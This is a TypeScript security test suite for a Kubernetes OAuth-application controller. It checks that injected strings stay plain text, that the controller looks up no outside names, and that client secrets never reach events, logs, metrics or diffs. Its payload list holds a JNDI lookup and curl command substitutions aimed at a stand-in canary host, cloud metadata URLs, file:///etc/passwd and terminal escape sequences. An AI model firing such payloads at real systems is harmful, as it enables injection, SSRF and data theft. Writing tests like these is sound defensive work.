/**
 * Attacks on the controller as a process: texts that others would dial, resolve, run or print, in every field that takes text;
 * and whether a secret gets out of it by any way that a reader has.
 *
 * @module
 */

import { isIP } from 'node:net';
import { beforeAll, describe, expect, test } from 'vitest';
import { Sensitive } from '../../src/core/sensitive.ts';
import { eventually } from '../support/eventually.ts';
import { type Installation, install } from '../support/installation.ts';
import { leaks } from '../support/leaks.ts';
import { manifest, newTenant, type Tenant, values } from '../support/tenant.ts';

const canary = 'canary.example';

/** What others have run or dialled when it came by. */
const payloads = [
  `\${jndi:ldap://${canary}/a}`,
  `{{ printf "%s" .Values }}`,
  `$$(curl ${canary})`,
  `\`curl ${canary}\`; |id`,
  '%s%n%x%d',
  `http://169.254.169.254/latest`,
  `http://100.100.100.200/`,
  `file:///etc/passwd`,
];

/** Texts in all fields that take any; `mark` is found nowhere else. */
function everywhere(payload: string, mark: string): Readonly<Record<string, unknown>> {
  return {
    displayName: payload.slice(0, 24).replaceAll(/[<>]/g, '').trim(),
    redirectURIs: [`https://${mark}.${canary}/cb`, `https://metadata.${canary}:8443/${mark}?next=x`],
    scopes: ['openid', `${mark}.${canary}`],
    secret: {
      labels: { team: `${mark}.${canary}` },
      annotations: { 'example.com/url': payload, [`${mark}.${canary}/note`]: payload },
      data: { 'config.url': `http://${mark}.${canary}/$(clientID)`, text: payload },
    },
  };
}

let installation: Installation;
let team: Tenant;
/** All that was ever served. */
const served: string[] = [];

const name = (n: number) => `payload-${n}`;

beforeAll(async () => {
  installation = await install({}, { preload: new URL('canary.ts', import.meta.url).href, controllerManager: false });
  team = await newTenant(installation.cluster);
  await Promise.all(payloads.map((payload, n) => team.applyReady(name(n), everywhere(payload, `mark${n}`))));
  for (const n of payloads.keys()) {
    const annotations = `ramify.dev/reconcile-requested-at=${payloads[n]}`;
    await team.kubectl('annotate', 'oapp', name(n), annotations);
    await team.until(name(n), ({ status }) => status.lastHandledReconcileAt === payloads[n]);
    served.push(valueIn((await team.secret(name(n))) ?? expect.fail('there is no Secret')));
  }
  await team.apply('refused', { ...everywhere('refused', 'marked'), multiTenant: true });
  await team.reason('refused', 'PolicyViolation');
});

const valueIn = (secret: Parameters<typeof values>[0]) => values(secret)['client_secret'] ?? '';

/** Names and addresses that the process asked for or connected to. */
function called(): ReadonlySet<string> {
  const lines = installation.output.filter((line) => line.startsWith('canary: '));
  return new Set(lines.map((line) => line.slice('canary: '.length)));
}

test('AT31: nothing is looked up, and nothing connected to but the API server', () => {
  const server = new URL(installation.cluster.access.url).host;
  // Where it listens is an address, which is looked up nowhere.
  expect([...called()].filter((what) => isIP(what) === 0)).toEqual([server]);
});

test('AT32: what looks like a template, a lookup or a command stays text', async () => {
  for (const [n, payload] of payloads.entries()) {
    const { text } = values((await team.secret(name(n))) ?? expect.fail('there is no Secret'));
    expect(text).toBe(payload.replace('$$', '$'));
  }
  await installation.withBackup(async (store) => {
    const names = (await store.list()).map(({ displayName }) => displayName);
    for (const payload of payloads) expect(names).toContain(payload.slice(0, 24).replaceAll(/[<>]/g, '').trim());
  });
});

const events = async () => team.kubectl('get', 'events', '--output', 'yaml');
const log = () => installation.output.filter((line) => !line.startsWith('canary: ')).join('\n');

test('AT33: what a spec says is told in no event and no line of the log', async () => {
  const told = `${await events()}\n${log()}`;
  for (const payload of [...payloads, 'marked', 'mark1.']) expect(told).not.toContain(payload);
});

describe('no value of a client secret', () => {
  const ways: readonly (readonly [string, () => Promise<string>])[] = [
    [
      'AT34: is in a status, an annotation or managed fields',
      () => team.kubectl('get', 'oapp', '--output', 'yaml', '--show-managed-fields'),
    ],
    ['AT34: is in the metadata of a Secret', metadataOfSecrets],
    ['AT34: is in an event', events],
    ['AT34: is in a metric', () => installation.metrics()],
    ['AT35: is in what kubectl describes', () => team.kubectl('describe', 'oapp,secret')],
    ['AT35: is in a diff', diff],
    ['AT36: is in the log, at its finest level', async () => log()],
  ];

  test.each(ways)('%s', async (_way, look) => {
    const text = await look();
    expect(text.length).toBeGreaterThan(100);
    expect(leaks(text, served)).toEqual([]);
  });

  test('AT34, AT36: though each was served, and is accepted', async () => {
    expect(new Set(served).size).toBe(payloads.length);
    expect(log()).toContain('"level":"debug"');
    await installation.withBackup(async (store) => {
      for (const [n, value] of served.entries()) {
        const { status } = (await team.application(name(n))) ?? expect.fail('there is no resource');
        expect(await store.accepts(status.clientID ?? '', new Sensitive(value))).toBe(true);
      }
    });
  });
});

async function metadataOfSecrets(): Promise<string> {
  const path = `/api/v1/namespaces/${team.namespace}/secrets`;
  const { body } = await installation.cluster.request<{ items: { metadata: object }[] }>('GET', path);
  return JSON.stringify(body.items.map(({ metadata }) => metadata));
}

/** What a comparison sees of a resource that is to change: a dry run, as Argo CD makes one. */
function diff(): Promise<string> {
  const changed = JSON.stringify(manifest(name(0), { displayName: 'Changed' }));
  return installation.cluster.apply(changed, '--namespace', team.namespace, '--dry-run=server', '--output=yaml');
}

test('AT50: each line of the log is one line of JSON without what moves a cursor', async () => {
  const moving = 'a\u001b[2Jb\u202ec\u0007';
  await team.patch('oauthapplications', name(0), {
    metadata: { annotations: { 'ramify.dev/reconcile-requested-at': moving } },
  });
  await eventually(() => installation.log().length > 0);
  await team.applyReady('after');
  for (const line of log().split('\n').filter(Boolean)) {
    expect(() => JSON.parse(line)).not.toThrow();
    expect(line).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
  }
});
